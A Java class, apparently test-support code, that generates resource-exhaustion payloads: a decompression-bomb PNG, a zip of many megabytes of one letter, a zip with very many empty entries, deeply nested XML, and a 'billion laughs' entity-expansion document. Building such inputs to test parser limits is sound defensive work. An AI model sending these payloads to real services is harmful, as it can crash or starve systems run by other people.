package org.daywatch._story;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.zip.CRC32;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Small files that become large in whoever opens them without asking first. */
public final class Bombs {

    private static final int MOST_ROWS_OF_DOTS = 100_000_000;

    private Bombs() {}

    /** A PNG of black dots, 16 bits each of red, green, blue and clearness, its rows written one by one. */
    public static byte[] darkness(int width, int height) throws IOException {
        var png = new ByteArrayOutputStream();
        png.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10});
        chunk(png, "IHDR", ByteBuffer.allocate(13).putInt(width).putInt(height)
                .put(new byte[] {16, 6, 0, 0, 0}).array());
        var packed = new ByteArrayOutputStream();
        try (var rows = new DeflaterOutputStream(packed)) {
            byte[] row = new byte[1 + width * 8];
            for (int y = 0; y < Math.min(height, MOST_ROWS_OF_DOTS / width); y++) rows.write(row);
        }
        chunk(png, "IDAT", packed.toByteArray());
        chunk(png, "IEND", new byte[0]);
        return png.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream png, String name, byte[] bytes) throws IOException {
        var named = new ByteArrayOutputStream();
        named.write(name.getBytes(StandardCharsets.US_ASCII));
        named.write(bytes);
        var sum = new CRC32();
        sum.update(named.toByteArray());
        png.write(ByteBuffer.allocate(4).putInt(bytes.length).array());
        png.write(named.toByteArray());
        png.write(ByteBuffer.allocate(4).putInt((int) sum.getValue()).array());
    }

    /** A zip with one file of so many megabytes that are all the letter a. */
    public static byte[] zip(String name, int megabytes) throws IOException {
        var bytes = new ByteArrayOutputStream();
        byte[] block = "a".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII);
        try (var zip = new ZipOutputStream(bytes)) {
            zip.setLevel(1);
            zip.putNextEntry(new ZipEntry(name));
            for (int i = 0; i < megabytes; i++) zip.write(block);
        }
        return bytes.toByteArray();
    }

    /** A zip of many empty files. */
    public static byte[] crowd(int files) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            for (int i = 0; i < files; i++) zip.putNextEntry(new ZipEntry("x" + i));
        }
        return bytes.toByteArray();
    }

    /** So many elements within each other. */
    public static String deep(String element, int times) {
        return ("<" + element + ">").repeat(times) + ("</" + element + ">").repeat(times);
    }

    /** Ten of ten of ten …: a few lines that read as a thousand million words. */
    public static String laughs(String root) {
        var text = new StringBuilder("<!DOCTYPE " + root + " [<!ENTITY a0 \"ha\">");
        for (int i = 1; i < 10; i++)
            text.append("<!ENTITY a").append(i).append(" \"").append(("&a" + (i - 1) + ";").repeat(10)).append("\">");
        return text.append("]><").append(root).append(">&a9;</").append(root).append(">").toString();
    }
}
